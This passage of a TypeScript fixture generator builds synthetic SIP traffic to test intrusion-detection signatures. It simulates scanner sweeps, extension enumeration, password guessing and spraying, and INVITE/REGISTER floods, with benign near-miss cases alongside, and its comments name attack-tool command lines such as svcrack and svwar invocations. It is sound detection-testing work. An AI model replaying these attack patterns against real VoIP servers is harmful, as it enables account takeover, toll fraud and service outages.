//! Builds the JSONL fixtures of the REC / AUTH / DOS / MAL signatures.
//!
//!   npx tsx signatures/tools/make-fixtures.ts            (from the repository root)
//!
//! Every synthetic event goes through the collector's own code path: the SIP message is written as
//! wire text, parsed by `parseSipMessage` and turned into an event by `toSipEvent` — the same two
//! calls `sipward decode` makes for a UDP datagram — so fields, anomaly codes and event ids are
//! exactly what the collector emits. Benign look-alikes also come verbatim from the testbed captures
//! (test/fixtures/captures/*.pcap, real sipp + kamailio traffic) through `decodeInputs`.
//! Output is deterministic (seeded PRNG, fixed clock): re-running it rewrites identical files.
//! signatures/tools/tsconfig.json type-checks this folder (`npx tsc -p signatures/tools`) and lets ESLint's
//! project service find it; the root build (tsconfig.json) does not compile or emit it.

import type { SipEvent } from '../../schema/src/sip-event';
import {
  type Clock,
  ackFor,
  call,
  cancelFor,
  inviteRequest,
  registerLogin,
  probe,
  retransmit,
} from '../../lib/src/test-support/capture/dialogs';
import {
  type Endpoint,
  type RequestSpec,
  renderRequest,
  renderResponse,
  UA,
  SDP,
} from '../../lib/src/test-support/capture/sip';
import type { Fixture } from './fixture-kit';
import { written, decodeCapture, writeEvents, REGISTRAR, PROXY, DOMAIN, scenario } from './fixture-kit';

// ---------------------------------------------------------------------------------------------
// The testbed's trunk keepalive: sipp's OPTIONS (From keepalive) to the registrar, answered 200 —
// benign background traffic, and what keeps event time moving past a signature's timeout.

const TESTBED_SIPP: Endpoint = { ip: '10.77.0.11', port: 5060 };
const TESTBED_REGISTRAR: Endpoint = { ip: '10.77.0.21', port: 5060 };

function keepalive(f: Fixture, c: Clock): void {
  probe(f, c, TESTBED_SIPP, TESTBED_REGISTRAR, {
    method: 'OPTIONS',
    fromUser: 'keepalive',
    ua: 'sipward-testbed-sipp',
    status: 200,
    server: 'sipward-testbed-registrar',
  });
}

/** `n` keepalives, each after a 30 s wait. */
function keepalives(f: Fixture, c: Clock, n: number): void {
  for (let i = 0; i < n; i++) {
    c.advanceMs(30000);
    keepalive(f, c);
  }
}

// ---------------------------------------------------------------------------------------------
// Scenarios, per signature

function recon(realUdp: SipEvent[]): void {
  // SIP-REC-01 --------------------------------------------------------------------------------
  scenario('recon/SIP-REC-01/positive/svmap-friendly-scanner.jsonl', 101, '2026-11-20T03:12:05Z', (f, c) => {
    const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
    // svmap: one OPTIONS per host, UA friendly-scanner, From "sipvicious"<sip:100@1.1.1.1>.
    for (let i = 0; i < 5; i++) {
      probe(
        f,
        c,
        scanner,
        { ip: `198.51.100.${10 + i}`, port: 5060 },
        {
          method: 'OPTIONS',
          toUser: '100',
          fromUser: '100',
          fromDisplay: 'sipvicious',
          ua: UA.svwar,
          ...(i === 0 ? { status: 200, server: UA.asterisk } : {}),
        },
      );
      c.advanceMs(20);
    }
  });
  // UA rotated to a softphone string, but the tool still says who it is in the From display
  // name (ET 2008578) — and a second source runs sippts with its default UA.
  scenario('recon/SIP-REC-01/positive/renamed-ua-and-sippts.jsonl', 102, '2026-11-20T04:40:00Z', (f, c) => {
    probe(f, c, { ip: '203.0.113.67', port: 5060 }, REGISTRAR, {
      method: 'OPTIONS',
      toUser: '1001',
      fromUser: '1001',
      fromDisplay: 'sipvicious',
      ua: UA.zoiper,
      status: 404,
      server: UA.asterisk,
    });
    c.advanceMs(1000);
    probe(f, c, { ip: '203.0.113.68', port: 5060 }, REGISTRAR, {
      method: 'OPTIONS',
      toUser: '100',
      fromUser: '100',
      ua: UA.sippts,
      status: 200,
      server: UA.asterisk,
    });
  });
  // Everyday user agents, including the ones the list deliberately leaves out ("Asterisk PBX"
  // is both the real Asterisk and a modified-SIPVicious UA; Zoiper is a popular softphone).
  scenario('recon/SIP-REC-01/negative/everyday-user-agents.jsonl', 103, '2026-11-20T09:00:00Z', (f, c) => {
    const uas = [
      UA.asterisk,
      UA.zoiper,
      UA.yealink,
      UA.polycom,
      UA.linphone,
      UA.grandstream,
      UA.freeswitch,
      'MicroSIP/3.21.3',
      'Bria 6 release 6.5.2',
      'Cisco-SIPGateway/IOS-15.x',
    ];
    uas.forEach((ua, i) => {
      registerLogin(f, c, { ip: `10.77.3.${20 + i}`, port: 5060 }, REGISTRAR, {
        user: String(2000 + i),
        domain: DOMAIN,
        final: 200,
        ua,
        server: UA.kamailio,
      });
      c.advanceMs(500);
    });
  });
  writeEvents('recon/SIP-REC-01/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-REC-02 --------------------------------------------------------------------------------
  // svmap 198.51.100.0/26: 60 hosts in ~3 s, most silent, a few answer.
  scenario('recon/SIP-REC-02/positive/options-sweep-60-hosts.jsonl', 201, '2026-11-20T03:12:05Z', (f, c) => {
    const scanner: Endpoint = { ip: '203.0.113.66', port: 5070 };
    for (let i = 1; i <= 60; i++) {
      const answer = i % 17 === 0;
      probe(
        f,
        c,
        scanner,
        { ip: `198.51.100.${i}`, port: 5060 },
        {
          method: 'OPTIONS',
          toUser: '100',
          fromUser: '100',
          ua: 'Linksys/SPA942-6.1.5a',
          ...(answer ? { status: 200, server: UA.asterisk } : {}),
        },
      );
      c.advanceMs(50);
    }
  });
  // A trunk keepalive: the testbed's OPTIONS (From keepalive) to one peer every 10 s for 10 min.
  scenario('recon/SIP-REC-02/negative/keepalive-one-peer.jsonl', 202, '2026-11-20T10:00:00Z', (f, c) => {
    for (let i = 1; i <= 60; i++) {
      keepalive(f, c);
      c.advanceMs(10000);
    }
  });
  // An SBC health-checking its 12 trunk peers every 30 s (dispatcher-style), all answered.
  scenario('recon/SIP-REC-02/negative/sbc-pings-12-peers.jsonl', 203, '2026-11-20T10:00:00Z', (f, c) => {
    const sbc: Endpoint = { ip: '10.77.1.1', port: 5060 };
    for (let round = 0; round < 10; round++) {
      for (let p = 1; p <= 12; p++) {
        probe(
          f,
          c,
          sbc,
          { ip: `198.51.100.${100 + p}`, port: 5060 },
          { method: 'OPTIONS', fromUser: 'ping', ua: UA.sbc, status: 200, server: UA.freeswitch },
        );
        c.advanceMs(100);
      }
      c.advanceMs(30000 - 1200);
    }
  });
  writeEvents('recon/SIP-REC-02/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-REC-03 --------------------------------------------------------------------------------
  // svwar -e100-199 -m REGISTER: 404 for unknown users, 401 for the valid ones (the differential).
  scenario('recon/SIP-REC-03/positive/svwar-register-100-199.jsonl', 301, '2026-11-20T03:20:00Z', (f, c) => {
    const scanner: Endpoint = { ip: '203.0.113.77', port: 5061 };
    const valid = new Set(['101', '120', '150']);
    for (let ext = 100; ext <= 199; ext++) {
      const user = String(ext);
      probe(f, c, scanner, REGISTRAR, {
        method: 'REGISTER',
        toUser: user,
        fromUser: user,
        toHost: DOMAIN,
        ua: UA.svwar,
        status: valid.has(user) ? 401 : 404,
        server: UA.asterisk,
      });
      c.advanceMs(40);
    }
  });
  // svwar -m OPTIONS against a server that answers 403 for unknown users instead of 404.
  scenario('recon/SIP-REC-03/positive/options-enumeration-403.jsonl', 302, '2026-11-21T01:00:00Z', (f, c) => {
    const scanner: Endpoint = { ip: '203.0.113.78', port: 5060 };
    for (let ext = 1000; ext < 1040; ext++) {
      probe(f, c, scanner, PROXY, {
        method: 'OPTIONS',
        toUser: String(ext),
        fromUser: String(ext),
        toHost: DOMAIN,
        ua: 'sipcli/v1.8',
        status: ext === 1007 ? 200 : 403,
        server: UA.freeswitch,
      });
      c.advanceMs(900);
    }
  });
  // A PBX calling 30 distinct customers through a proxy that challenges every INVITE (407, no
  // credentials yet) and then accepts the authenticated retry: challenges are not enumeration.
  scenario('recon/SIP-REC-03/negative/pbx-calls-challenged-by-proxy.jsonl', 303, '2026-11-20T11:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
    for (let i = 0; i < 30; i++) {
      call(f, c, pbx, PROXY, {
        from: '2100',
        to: `4930${String(5550100 + i)}`,
        domain: DOMAIN,
        final: i % 5 === 0 ? 486 : 200,
        ua: UA.asterisk,
        server: UA.kamailio,
        challenge: true,
        auth: { username: 'pbx-trunk', realm: DOMAIN },
        ringMs: 1500,
        talkMs: 500,
      });
      c.advanceMs(1500);
    }
  });
  // Near miss: 15 distinct wrong extensions dialled from one PBX in 2 minutes (threshold 20).
  scenario('recon/SIP-REC-03/negative/fifteen-wrong-extensions.jsonl', 304, '2026-11-20T12:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.11', port: 5060 };
    for (let i = 0; i < 15; i++) {
      call(f, c, pbx, PROXY, {
        from: '2200',
        to: String(300 + i * 7),
        domain: DOMAIN,
        final: 404,
        ua: UA.asterisk,
        server: UA.kamailio,
      });
      c.advanceMs(7000);
    }
  });
  writeEvents('recon/SIP-REC-03/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-REC-04 --------------------------------------------------------------------------------
  // An open-relay / stolen-account probe walking international prefixes for one UK number.
  scenario('recon/SIP-REC-04/positive/prefix-walk-uk-number.jsonl', 401, '2026-11-20T02:10:00Z', (f, c) => {
    const attacker: Endpoint = { ip: '203.0.113.88', port: 5060 };
    const national = '442079460123';
    const prefixes = ['', '0', '00', '000', '011', '9', '900', '9011', '8', '800', '1', '01', '001', '0000', '99', '7'];
    prefixes.forEach((p, i) => {
      const final = i === prefixes.length - 1 ? 403 : ([404, 403, 484, 488, 503][i % 5] ?? 404);
      call(f, c, attacker, PROXY, {
        from: '100',
        to: p + national,
        domain: PROXY.ip,
        final,
        ua: UA.sippts,
        server: UA.kamailio,
      });
      c.advanceMs(600);
    });
  });
  // A contact-centre trunk: 40 outbound calls to distinct numbers in a minute, 6 of them to
  // numbers that do not exist (404/484) — ordinary dialling errors stay below 10.
  scenario('recon/SIP-REC-04/negative/contact-centre-dialling-errors.jsonl', 402, '2026-11-20T14:00:00Z', (f, c) => {
    const trunk: Endpoint = { ip: '10.77.2.20', port: 5060 };
    for (let i = 0; i < 40; i++) {
      const final = i % 7 === 3 ? (i % 2 === 0 ? 404 : 484) : i % 5 === 0 ? 486 : i % 9 === 0 ? 480 : 200;
      call(f, c, trunk, PROXY, {
        from: '8000',
        to: `33${String(140000000 + i * 3713)}`,
        domain: DOMAIN,
        final,
        ua: UA.freeswitch,
        server: UA.kamailio,
        ringMs: 200,
        talkMs: 100,
      });
      c.advanceMs(900);
    }
  });
  // Near miss: 15 short internal extensions rejected in 20 s — extension enumeration (REC-03's
  // business), not a dial-plan walk: the numbers are too short to be external destinations.
  scenario('recon/SIP-REC-04/negative/short-extensions-rejected.jsonl', 403, '2026-11-20T15:00:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.89', port: 5060 };
    for (let i = 0; i < 15; i++) {
      call(f, c, src, PROXY, {
        from: '100',
        to: String(200 + i),
        domain: DOMAIN,
        final: 404,
        ua: 'pplsip',
        server: UA.kamailio,
      });
      c.advanceMs(1000);
    }
  });
  writeEvents('recon/SIP-REC-04/negative/testbed-udp-real.jsonl', realUdp);
}

function auth(realUdp: SipEvent[]): void {
  const attacker: Endpoint = { ip: '203.0.113.7', port: 5070 };

  // SIP-AUTH-01 -------------------------------------------------------------------------------
  // svcrack -u1001 -d dictionary.txt: 40 guesses in ~30 s, each one challenge + one wrong answer.
  scenario('auth/SIP-AUTH-01/positive/svcrack-dictionary-1001.jsonl', 501, '2026-11-20T03:30:00Z', (f, c) => {
    for (let i = 0; i < 40; i++) {
      registerLogin(f, c, attacker, REGISTRAR, {
        user: '1001',
        domain: DOMAIN,
        final: i % 3 === 0 ? 401 : 403,
        ua: UA.svwar,
        server: UA.asterisk,
      });
      c.advanceMs(700);
    }
  });
  // INVITE brute force: a toll-fraud bot guessing the password of account 2001 on the proxy,
  // each authenticated INVITE re-challenged with 407 (the caller account is the From user).
  scenario('auth/SIP-AUTH-01/positive/invite-password-guessing-407.jsonl', 502, '2026-11-20T03:45:00Z', (f, c) => {
    const bot: Endpoint = { ip: '203.0.113.8', port: 5060 };
    for (let i = 0; i < 15; i++) {
      const q = inviteRequest(f.r, {
        from: { user: '2001', host: DOMAIN },
        to: { user: '0046701234567', host: DOMAIN },
        via: bot,
        cseq: 2,
        ua: 'VaxSIPUserAgent/3.1',
        auth: { username: '2001', realm: DOMAIN, header: 'Proxy-Authorization' },
        body: SDP(bot.ip, 12000),
      });
      f.request(q, PROXY, c.us);
      f.response(q, 407, PROXY, c.advanceMs(2), { challenge: 'proxy', realm: DOMAIN, server: UA.kamailio });
      f.request(ackFor(q, f.r.hex(8)), PROXY, c.advanceMs(1));
      c.advanceMs(4000);
    }
  });
  // Digest is normal: a phone re-registering every 30 s for 10 min, each time 401 → 200.
  scenario('auth/SIP-AUTH-01/negative/challenge-then-success-every-30s.jsonl', 503, '2026-11-20T08:00:00Z', (f, c) => {
    const phone: Endpoint = { ip: '10.77.3.15', port: 5060 };
    const callId = '5f1c9a7e20b34d1d@10.77.3.15';
    for (let i = 0; i < 20; i++) {
      registerLogin(f, c, phone, REGISTRAR, {
        user: '1001',
        domain: DOMAIN,
        final: 200,
        ua: UA.yealink,
        server: UA.kamailio,
        callId,
        cseqStart: 1 + 2 * i,
        expires: 60,
      });
      c.advanceMs(30000);
    }
  });
  // Near miss: a phone with a stale password after a change retries 9 times in 5 min.
  scenario('auth/SIP-AUTH-01/negative/stale-password-9-retries.jsonl', 504, '2026-11-20T08:30:00Z', (f, c) => {
    const phone: Endpoint = { ip: '10.77.3.16', port: 5060 };
    for (let i = 0; i < 9; i++) {
      registerLogin(f, c, phone, REGISTRAR, {
        user: '1002',
        domain: DOMAIN,
        final: 403,
        ua: UA.polycom,
        server: UA.kamailio,
        callId: 'aa01bb02cc03@10.77.3.16',
        cseqStart: 1 + 2 * i,
      });
      c.advanceMs(32000);
    }
  });
  writeEvents('auth/SIP-AUTH-01/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-AUTH-02 -------------------------------------------------------------------------------
  // Password spraying: 2 common passwords against 30 extensions from one host in 2 minutes.
  scenario('auth/SIP-AUTH-02/positive/spray-30-extensions.jsonl', 601, '2026-11-20T04:00:00Z', (f, c) => {
    const sprayer: Endpoint = { ip: '203.0.113.9', port: 5060 };
    for (let pass = 0; pass < 2; pass++) {
      for (let ext = 1000; ext < 1030; ext++) {
        registerLogin(f, c, sprayer, REGISTRAR, {
          user: String(ext),
          domain: DOMAIN,
          final: 403,
          ua: 'PortSIP VoIP SDK 11.2',
          server: UA.kamailio,
        });
        c.advanceMs(1500);
      }
    }
  });
  // After an outage 60 phones behind one NAT re-register within a minute (401 → 200 each); three
  // of them still carry an old password. Many accounts, one source — but not a spray.
  scenario('auth/SIP-AUTH-02/negative/nat-site-mass-reregistration.jsonl', 602, '2026-11-20T06:00:00Z', (f, c) => {
    const nat: Endpoint = { ip: '203.0.113.50', port: 5060 };
    for (let i = 0; i < 60; i++) {
      const stale = i === 5 || i === 17 || i === 41;
      registerLogin(f, c, { ip: nat.ip, port: 30000 + i }, REGISTRAR, {
        user: String(3000 + i),
        domain: DOMAIN,
        final: stale ? 403 : 200,
        ua: UA.yealink,
        server: UA.kamailio,
      });
      c.advanceMs(900);
    }
  });
  // Near miss: failures on 9 distinct accounts from one host in 5 minutes (threshold 10).
  scenario('auth/SIP-AUTH-02/negative/nine-accounts-failing.jsonl', 603, '2026-11-20T07:00:00Z', (f, c) => {
    const src: Endpoint = { ip: '203.0.113.51', port: 5060 };
    for (let ext = 4000; ext < 4009; ext++) {
      registerLogin(f, c, src, REGISTRAR, {
        user: String(ext),
        domain: DOMAIN,
        final: 403,
        ua: UA.grandstream,
        server: UA.kamailio,
      });
      c.advanceMs(20000);
    }
  });
  writeEvents('auth/SIP-AUTH-02/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-AUTH-03 -------------------------------------------------------------------------------
  // svcrack finds the password of 1001 after 25 wrong guesses; the registrar answers 200.
  scenario('auth/SIP-AUTH-03/positive/svcrack-finds-password.jsonl', 701, '2026-11-20T03:30:00Z', (f, c) => {
    for (let i = 0; i < 26; i++) {
      registerLogin(f, c, attacker, REGISTRAR, {
        user: '1001',
        domain: DOMAIN,
        final: i === 25 ? 200 : 403,
        ua: UA.svwar,
        server: UA.asterisk,
      });
      c.advanceMs(700);
    }
  });
  // A user mistypes the password twice on a new softphone, then gets it right.
  scenario('auth/SIP-AUTH-03/negative/typo-then-success.jsonl', 702, '2026-11-20T09:15:00Z', (f, c) => {
    const phone: Endpoint = { ip: '10.77.3.20', port: 5060 };
    for (let i = 0; i < 3; i++) {
      registerLogin(f, c, phone, REGISTRAR, {
        user: '2002',
        domain: DOMAIN,
        final: i < 2 ? 403 : 200,
        ua: UA.zoiper,
        server: UA.kamailio,
        callId: 'c0ffee11aa22@10.77.3.20',
        cseqStart: 1 + 2 * i,
      });
      c.advanceMs(15000);
    }
  });
  // Near miss: a stale-password phone fails 8 times, the user fixes it 20 minutes later (window 10 min).
  scenario('auth/SIP-AUTH-03/negative/fixed-after-window.jsonl', 703, '2026-11-20T09:30:00Z', (f, c) => {
    const phone: Endpoint = { ip: '10.77.3.21', port: 5060 };
    for (let i = 0; i < 8; i++) {
      registerLogin(f, c, phone, REGISTRAR, {
        user: '2003',
        domain: DOMAIN,
        final: 403,
        ua: UA.polycom,
        server: UA.kamailio,
        callId: 'dd33ee44@10.77.3.21',
        cseqStart: 1 + 2 * i,
      });
      c.advanceMs(30000);
    }
    c.advanceMs(20 * 60 * 1000);
    registerLogin(f, c, phone, REGISTRAR, {
      user: '2003',
      domain: DOMAIN,
      final: 200,
      ua: UA.polycom,
      server: UA.kamailio,
      callId: 'dd33ee44@10.77.3.21',
      cseqStart: 17,
    });
  });
  writeEvents('auth/SIP-AUTH-03/negative/testbed-udp-real.jsonl', realUdp);
}

function dos(realUdp: SipEvent[]): void {
  // SIP-DOS-01 --------------------------------------------------------------------------------
  // inviteflood-style: 160 new INVITEs (fresh Call-IDs) in 8 s from one host; the server
  // answers 100 and then 503 as it saturates.
  scenario('dos/SIP-DOS-01/positive/invite-flood-160-in-8s.jsonl', 801, '2026-11-20T05:00:00Z', (f, c) => {
    const flooder: Endpoint = { ip: '203.0.113.99', port: 5060 };
    for (let i = 0; i < 160; i++) {
      const q = inviteRequest(f.r, {
        from: { user: 'flood', host: flooder.ip },
        to: { user: String(1000 + (i % 50)), host: DOMAIN },
        via: flooder,
        callIdDigits: 24,
        ua: 'sipp',
        body: SDP(flooder.ip, 6000),
      });
      f.request(q, PROXY, c.us);
      if (i % 4 === 0) f.response(q, i > 80 ? 503 : 100, PROXY, c.advanceMs(1), { server: UA.kamailio });
      c.advanceMs(50);
    }
  });
  // A UAS that went silent: 25 calls, each INVITE resent 6 times on Timer A = 175 INVITE packets
  // in ~40 s, but only 25 transactions.
  scenario('dos/SIP-DOS-01/negative/retransmissions-to-dead-uas.jsonl', 802, '2026-11-20T05:30:00Z', (f, c) => {
    const gw: Endpoint = { ip: '10.77.2.30', port: 5060 };
    for (let i = 0; i < 25; i++) {
      const q = inviteRequest(f.r, {
        from: { user: '8001', host: DOMAIN },
        to: { user: `49305550${String(100 + i)}`, host: PROXY.ip },
        via: gw,
        callIdHost: gw.ip,
        ua: UA.freeswitch,
        body: SDP(gw.ip, 16000 + 2 * i),
      });
      const text = renderRequest(f.r, q);
      f.wire(text, gw, PROXY, c.us);
      retransmit(f, text, gw, PROXY, c.us, 6);
      c.advanceMs(600);
    }
  });
  // A busy PBX: 90 calls in a minute through a challenging proxy = 180 INVITE transactions
  // (407 then authenticated retry, same Call-ID) but 90 calls.
  scenario('dos/SIP-DOS-01/negative/busy-pbx-90-calls-challenged.jsonl', 803, '2026-11-20T13:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
    for (let i = 0; i < 90; i++) {
      const start = c.us;
      call(f, c, pbx, PROXY, {
        from: String(2100 + (i % 20)),
        to: `4930${String(6660000 + i)}`,
        domain: DOMAIN,
        final: 200,
        ua: UA.asterisk,
        server: UA.kamailio,
        challenge: true,
        auth: { username: 'pbx-trunk', realm: DOMAIN },
        ringMs: 300,
        talkMs: 100,
      });
      c.us = start + 650_000;
    }
  });
  writeEvents('dos/SIP-DOS-01/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-DOS-02 --------------------------------------------------------------------------------
  // REGISTER flood: 150 REGISTERs in 15 s from one host (no credentials, random users).
  scenario('dos/SIP-DOS-02/positive/register-flood-150-in-15s.jsonl', 901, '2026-11-20T05:10:00Z', (f, c) => {
    const flooder: Endpoint = { ip: '203.0.113.101', port: 5060 };
    for (let i = 0; i < 150; i++) {
      probe(f, c, flooder, REGISTRAR, {
        method: 'REGISTER',
        toUser: String(5000 + i),
        fromUser: String(5000 + i),
        toHost: DOMAIN,
        ua: 'sipp',
        ...(i % 3 === 0 ? { status: 401, server: UA.kamailio } : {}),
      });
      c.advanceMs(100);
    }
  });
  // Near miss: a NAT site's 45 phones re-register within a minute (2 REGISTERs each = 90), and
  // 20 of the unauthenticated REGISTERs are resent once (lossy uplink): 110 packets, 90 requests.
  scenario(
    'dos/SIP-DOS-02/negative/nat-site-reregistration-with-resends.jsonl',
    902,
    '2026-11-20T06:00:00Z',
    (f, c) => {
      const nat = '203.0.113.50';
      for (let i = 0; i < 45; i++) {
        const phone: Endpoint = { ip: nat, port: 30000 + i };
        if (i < 20) {
          const q = probe(f, c, phone, REGISTRAR, {
            method: 'REGISTER',
            toUser: String(3000 + i),
            fromUser: String(3000 + i),
            toHost: DOMAIN,
            ua: UA.yealink,
          });
          retransmit(f, renderRequest(f.r, q), phone, REGISTRAR, c.us, 1);
          c.advanceMs(700);
          registerLogin(f, c, phone, REGISTRAR, {
            user: String(3000 + i),
            domain: DOMAIN,
            final: 200,
            ua: UA.yealink,
            server: UA.kamailio,
            skipChallenge: true,
          });
        } else {
          registerLogin(f, c, phone, REGISTRAR, {
            user: String(3000 + i),
            domain: DOMAIN,
            final: 200,
            ua: UA.yealink,
            server: UA.kamailio,
          });
        }
        c.advanceMs(600);
      }
    },
  );
  writeEvents('dos/SIP-DOS-02/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-DOS-03 --------------------------------------------------------------------------------
  // A mixed-method flood (OPTIONS, MESSAGE, SUBSCRIBE, INFO): 150 requests in 1.5 s from one host.
  scenario('dos/SIP-DOS-03/positive/mixed-request-flood.jsonl', 1001, '2026-11-20T05:20:00Z', (f, c) => {
    const flooder: Endpoint = { ip: '203.0.113.120', port: 5060 };
    const methods = ['OPTIONS', 'MESSAGE', 'SUBSCRIBE', 'INFO'];
    for (let i = 0; i < 150; i++) {
      probe(f, c, flooder, PROXY, {
        method: methods[i % 4] ?? 'OPTIONS',
        toUser: String(1000 + (i % 30)),
        toHost: DOMAIN,
        ua: 'sipp',
        ...(i % 10 === 0 ? { status: 503, server: UA.kamailio } : {}),
      });
      c.advanceMs(10);
    }
  });
  // Near miss: 40 requests in 6 s (pike: 16 per 2 s unit), plus resends that do not count.
  scenario('dos/SIP-DOS-03/negative/busy-pbx-40-requests-with-resends.jsonl', 1002, '2026-11-20T15:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.40', port: 5060 };
    for (let i = 0; i < 40; i++) {
      const q = probe(f, c, pbx, PROXY, {
        method: i % 2 === 0 ? 'OPTIONS' : 'NOTIFY',
        toUser: String(1000 + i),
        toHost: DOMAIN,
        ua: UA.asterisk,
      });
      if (i % 2 === 0) retransmit(f, renderRequest(f.r, q), pbx, PROXY, c.us, 2);
      c.advanceMs(145);
    }
  });
  writeEvents('dos/SIP-DOS-03/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-DOS-04 --------------------------------------------------------------------------------
  // A distributed INVITE surge from 150 sources; the target answers 503 to most of it.
  scenario('dos/SIP-DOS-04/positive/distributed-surge-503-storm.jsonl', 1101, '2026-11-20T05:40:00Z', (f, c) => {
    for (let i = 0; i < 150; i++) {
      const src: Endpoint = {
        ip: i % 2 === 0 ? `203.0.113.${1 + (i % 200) / 2}` : `192.0.2.${1 + ((i - 1) % 200) / 2}`,
        port: 5060,
      };
      const q = inviteRequest(f.r, {
        from: { user: String(f.r.int(100, 999)), host: src.ip },
        to: { user: String(1000 + (i % 40)), host: DOMAIN },
        via: src,
        callIdDigits: 20,
        ua: 'sipp',
        body: SDP(src.ip, 7000),
      });
      f.request(q, PROXY, c.us);
      f.response(q, 100, PROXY, c.advanceMs(2), { server: UA.kamailio });
      f.response(q, i % 10 < 8 ? 503 : 486, PROXY, c.advanceMs(20), { server: UA.kamailio });
      f.request(ackFor(q, f.r.hex(8)), PROXY, c.advanceMs(1));
      c.advanceMs(100);
    }
  });
  // A healthy gateway: 70 calls in 30 s (≈ 125 final responses incl. BYE), 4 of them 503 — 5 %.
  scenario('dos/SIP-DOS-04/negative/healthy-gateway-5pct-503.jsonl', 1102, '2026-11-20T16:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
    for (let i = 0; i < 70; i++) {
      const start = c.us;
      const final = i % 19 === 0 ? 503 : i % 6 === 0 ? 486 : 200;
      call(f, c, pbx, PROXY, {
        from: String(2100 + (i % 20)),
        to: `4930${String(7770000 + i)}`,
        domain: DOMAIN,
        final,
        ua: UA.asterisk,
        server: UA.kamailio,
        ringMs: 200,
        talkMs: 100,
      });
      c.us = start + 400_000;
    }
  });
  // Near miss: a trunk is down and answers every call 503 — but only 30 calls (min_events 100).
  scenario('dos/SIP-DOS-04/negative/trunk-down-30-calls.jsonl', 1103, '2026-11-20T16:30:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
    for (let i = 0; i < 30; i++) {
      call(f, c, pbx, PROXY, {
        from: '2100',
        to: `4930${String(8880000 + i)}`,
        domain: DOMAIN,
        final: 503,
        ua: UA.asterisk,
        server: UA.kamailio,
      });
      c.advanceMs(1500);
    }
  });
  writeEvents('dos/SIP-DOS-04/negative/testbed-udp-real.jsonl', realUdp);

  // SIP-DOS-05 --------------------------------------------------------------------------------
  // Transaction exhaustion: 40 INVITEs in 30 s from one host. 30 of them the target accepts
  // (100 Trying) but never answers finally — it holds them, as a forking proxy does until
  // Timer C; 10 are answered 200 OK and never ACKed (the UAS resends its 200 on Timer G).
  // Unrelated keepalives keep event time moving past the timeout.
  scenario('dos/SIP-DOS-05/positive/invite-exhaustion-no-final-no-ack.jsonl', 1201, '2026-11-20T05:50:00Z', (f, c) => {
    const attacker: Endpoint = { ip: '203.0.113.140', port: 5060 };
    for (let i = 0; i < 40; i++) {
      const q = inviteRequest(f.r, {
        from: { user: 'anonymous', host: attacker.ip },
        to: { user: String(1000 + (i % 10)), host: DOMAIN },
        via: attacker,
        callIdDigits: 20,
        ua: 'sipp',
        body: SDP(attacker.ip, 8000),
      });
      f.request(q, REGISTRAR, c.us);
      const t0 = c.us;
      f.response(q, 100, REGISTRAR, t0 + 2000);
      if (i % 4 === 3) {
        f.response(q, 180, REGISTRAR, t0 + 30000, { toTag: `tag${i}` });
        const ok = renderResponse(f.r, q, 200, {
          toTag: `tag${i}`,
          server: UA.asterisk,
          body: SDP(REGISTRAR.ip, 30000 + 2 * i),
        });
        f.wire(ok, REGISTRAR, attacker, t0 + 500000);
        retransmit(f, ok, REGISTRAR, attacker, t0 + 500000, 4);
      }
      c.advanceMs(750);
    }
    keepalives(f, c, 12);
  });
  // 30 calls that ring for 60 s and are cancelled (CANCEL → 200, 487 → ACK): long but complete.
  scenario('dos/SIP-DOS-05/negative/ringing-then-cancelled.jsonl', 1202, '2026-11-20T17:00:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.10', port: 5060 };
    for (let i = 0; i < 30; i++) {
      const q = inviteRequest(f.r, {
        from: { user: '2100', host: DOMAIN },
        to: { user: String(3000 + i), host: DOMAIN },
        via: pbx,
        callIdHost: pbx.ip,
        ua: UA.asterisk,
        body: SDP(pbx.ip, 14000 + 2 * i),
      });
      const t0 = c.us;
      f.request(q, PROXY, t0);
      f.response(q, 100, PROXY, t0 + 2000);
      f.response(q, 180, PROXY, t0 + 60000, { toTag: `r${i}` });
      const cancel = cancelFor(q);
      f.request(cancel, PROXY, t0 + 60_000_000);
      f.response(cancel, 200, PROXY, t0 + 60_002_000);
      f.response(q, 487, PROXY, t0 + 60_003_000, { toTag: `r${i}` });
      f.request(ackFor(q, `r${i}`), PROXY, t0 + 60_004_000);
      c.advanceMs(2000);
    }
    keepalives(f, c, 10);
  });
  // Near miss: 12 calls whose final response never reached the capture (asymmetric tap,
  // lossy mirror) — under the threshold of 20.
  scenario('dos/SIP-DOS-05/negative/twelve-finals-missed-by-tap.jsonl', 1203, '2026-11-20T17:30:00Z', (f, c) => {
    const pbx: Endpoint = { ip: '10.77.2.12', port: 5060 };
    for (let i = 0; i < 12; i++) {
      const q = inviteRequest(f.r, {
        from: { user: '2101', host: DOMAIN },
        to: { user: String(3100 + i), host: DOMAIN },
        via: pbx,
        callIdHost: pbx.ip,
        ua: UA.asterisk,
        body: SDP(pbx.ip, 15000 + 2 * i),
      });
      f.request(q, PROXY, c.us);
      f.response(q, 100, PROXY, c.advanceMs(2));
      f.response(q, 180, PROXY, c.advanceMs(400), { toTag: `a${i}` });
      c.advanceMs(2000);
    }
    keepalives(f, c, 10);
  });
  writeEvents('dos/SIP-DOS-05/negative/testbed-udp-real.jsonl', realUdp);
}

function malformed(realUdp: SipEvent[], realFrag: SipEvent[]): void {
  const base = (f: Fixture, src: Endpoint, over: Partial<RequestSpec> = {}): RequestSpec => ({
    ...inviteRequest(f.r, {
      from: { user: '555', host: src.ip },
      to: { user: '1001', host: DOMAIN },
      via: src,
      callIdDigits: 20,
      callIdHost: src.ip,
      ua: UA.linphone,
    }),
    ...over,
  });

  // SIP-MAL-01 --------------------------------------------------------------------------------
